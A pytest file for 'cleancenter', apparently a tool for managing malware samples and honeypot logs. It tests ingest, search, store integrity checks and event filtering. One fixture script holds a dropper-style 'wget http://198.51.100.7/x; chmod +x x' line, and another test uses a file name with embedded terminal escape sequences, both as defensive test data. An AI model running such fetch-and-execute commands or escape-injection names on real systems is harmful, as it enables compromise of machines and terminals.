"""The `cleancenter` command as a user drives it: JSON output, exit codes, safe printing."""

import json
import os
from pathlib import Path

from typer.testing import CliRunner

from cleancenter.cli import app

runner = CliRunner()


def cc(data: Path, *args: str) -> tuple[int, str]:
    result = runner.invoke(app, ["--data-dir", str(data), *args])
    return result.exit_code, result.stdout


def test_ingest_then_list_search_show(tmp_path: Path) -> None:
    data = tmp_path / "data"
    src = tmp_path / "in"
    (src / "sub").mkdir(parents=True)
    (src / "a.bin").write_bytes(b"\x7fELF\x01\x01\x01" + b"\0" * 60)
    (src / "sub" / "b.txt").write_text("hello bot\n")
    (src / "sub" / "copy-of-a.bin").write_bytes((src / "a.bin").read_bytes())
    code, out = cc(data, "ingest", str(src), "--tag", "submission", "--json")
    assert code == 0, out
    report = json.loads(out)
    assert (report["files"], report["samples_new"], report["error_count"]) == (3, 2, 0)

    code, out = cc(data, "samples", "list", "--json")
    listed = json.loads(out)
    assert listed["total"] == 2
    elf = next(s for s in listed["samples"] if s["file_type"] == "elf32")
    assert sorted(elf["names"]) == ["a.bin", "copy-of-a.bin"]
    assert elf["tags"] == ["submission"]

    code, out = cc(data, "samples", "search", elf["md5"][:8], "--json")
    assert [s["sha256"] for s in json.loads(out)["samples"]] == [elf["sha256"]]
    code, out = cc(data, "samples", "search", "b.t*", "--json")
    assert [s["names"] for s in json.loads(out)["samples"]] == [["b.txt"]]
    code, out = cc(data, "samples", "search", "--type", "text", "--json")
    assert json.loads(out)["total"] == 1

    code, out = cc(data, "samples", "show", elf["sha1"], "--json")
    assert code == 0 and json.loads(out)["sha256"] == elf["sha256"]
    code, out = cc(data, "samples", "show", "0123456789abcdef")
    assert code == 1


def test_store_verify_reports_damage_and_orphans(tmp_path: Path) -> None:
    data = tmp_path / "data"
    f = tmp_path / "x.bin"
    f.write_bytes(b"some content")
    assert cc(data, "ingest", str(f))[0] == 0
    code, out = cc(data, "store", "verify", "--json")
    assert code == 0 and json.loads(out)["ok"] is True

    blob = next(p for p in (data / "blobs").rglob("*") if p.is_file())
    os.chmod(blob, 0o600)
    blob.write_bytes(b"tampered")
    orphan_src = tmp_path / "o.bin"
    orphan_src.write_bytes(b"orphan")
    from cleancenter.store.blobs import BlobStore

    orphan = BlobStore(data / "blobs").put_bytes(b"orphan")
    code, out = cc(data, "store", "verify", "--json")
    report = json.loads(out)
    assert code == 1
    kinds = {(p["kind"], Path(p["path"]).name) for p in report["problems"]}
    assert ("mismatch", blob.name) in kinds
    assert ("orphan", orphan.sha256) in kinds
    assert report["missing"] == []
    os.chmod(blob, 0o600)
    blob.unlink()
    code, out = cc(data, "store", "verify", "--json")
    assert json.loads(out)["missing"] == [blob.name]


def test_hostile_names_are_printed_inert(tmp_path: Path) -> None:
    data = tmp_path / "data"
    evil_name = "bot\x1b]0;pwned\x07\x1b[2J[bold red]x\u202eexe.txt"
    src = tmp_path / "in"
    src.mkdir()
    (src / evil_name).write_bytes(b"payload")
    assert cc(data, "ingest", str(src))[0] == 0
    code, out = cc(data, "samples", "list")
    assert code == 0
    assert "\x1b" not in out and "\x07" not in out and "\u202e" not in out
    assert "\\x1b]0;pwned\\x07" in out
    assert "[bold red]x" in out  # markup shown as text, not interpreted
    code, out = cc(data, "samples", "list", "--json")
    assert json.loads(out)["samples"][0]["names"] == [evil_name]  # JSON keeps the real name


def test_ingest_missing_path_is_an_item_error_and_exit_1(tmp_path: Path) -> None:
    data = tmp_path / "data"
    good = tmp_path / "good.bin"
    good.write_bytes(b"good")
    code, out = cc(data, "ingest", "files", str(tmp_path / "nope"), str(good), "--json")
    report = json.loads(out)
    assert code == 1
    assert report["samples_new"] == 1
    assert report["errors"] == [{"location": str(tmp_path / "nope"),
                                 "message": "no such file or folder"}]


def test_events_list_filters_and_rejects_bad_ip(tmp_path: Path) -> None:
    data = tmp_path / "data"
    log = tmp_path / "cowrie.json"
    lines = [
        {"eventid": "cowrie.session.connect", "src_ip": "192.0.2.10", "src_port": 5555,
         "dst_ip": "10.0.0.2", "dst_port": 2222, "protocol": "ssh", "session": "s1",
         "sensor": "hp1", "timestamp": "2018-05-06T10:00:00.000001Z"},
        {"eventid": "cowrie.login.failed", "src_ip": "192.0.2.10", "session": "s1",
         "sensor": "hp1", "username": "root", "password": "x",
         "timestamp": "2018-05-06T10:00:01Z"},
        {"eventid": "cowrie.session.connect", "src_ip": "203.0.113.5", "src_port": 6666,
         "dst_ip": "10.0.0.2", "dst_port": 23, "protocol": "telnet", "session": "s2",
         "sensor": "hp2", "timestamp": "2018-05-07T10:00:00Z"},
    ]
    log.write_text("".join(json.dumps(x) + "\n" for x in lines))
    assert cc(data, "ingest", "cowrie", str(log))[0] == 0
    code, out = cc(data, "events", "list", "--ip", "192.0.2.0/24", "--json")
    events = json.loads(out)["events"]
    assert [(e["kind"], e["src_port"], e["dst_port"]) for e in events] == [
        ("connect", 5555, 2222), ("login-failed", 5555, 2222)]
    code, out = cc(data, "events", "list", "--sensor", "hp2", "--json")
    assert [e["protocol"] for e in json.loads(out)["events"]] == ["telnet"]
    code, out = cc(data, "events", "list", "--since", "2018-05-06T10:00:01", "--until",
                   "2018-05-07", "--json")
    assert [e["kind"] for e in json.loads(out)["events"]] == ["login-failed"]
    code, out = cc(data, "events", "list", "--kind", "connect")
    assert code == 0 and "203.0.113.5:6666" in out
    code, _ = cc(data, "events", "list", "--ip", "300.1.1.1/8")
    assert code == 2


def test_ingest_analyzes_new_samples_unless_told_not_to(tmp_path: Path) -> None:
    data = tmp_path / "data"
    a, b = tmp_path / "a.sh", tmp_path / "b.sh"
    a.write_text("#!/bin/sh\ncd /tmp; wget http://198.51.100.7/x; chmod +x x\n")
    b.write_text("#!/bin/sh\necho hello\n")
    code, out = cc(data, "ingest", str(a), "--no-analyze", "--json")
    assert code == 0 and json.loads(out)["analysis"] is None
    code, out = cc(data, "samples", "show", "--json",
                   json.loads(cc(data, "samples", "list", "--json")[1])["samples"][0]["sha256"])
    assert json.loads(out)["report"] is None
    code, out = cc(data, "ingest", str(b), "--json")
    analysis = json.loads(out)["analysis"]
    assert analysis["analyzed"] == 2 and analysis["failed"] == 0  # a.sh was pending too
    code, out = cc(data, "samples", "list", "--json")
    assert {s["analysis_state"] for s in json.loads(out)["samples"]} == {"done"}
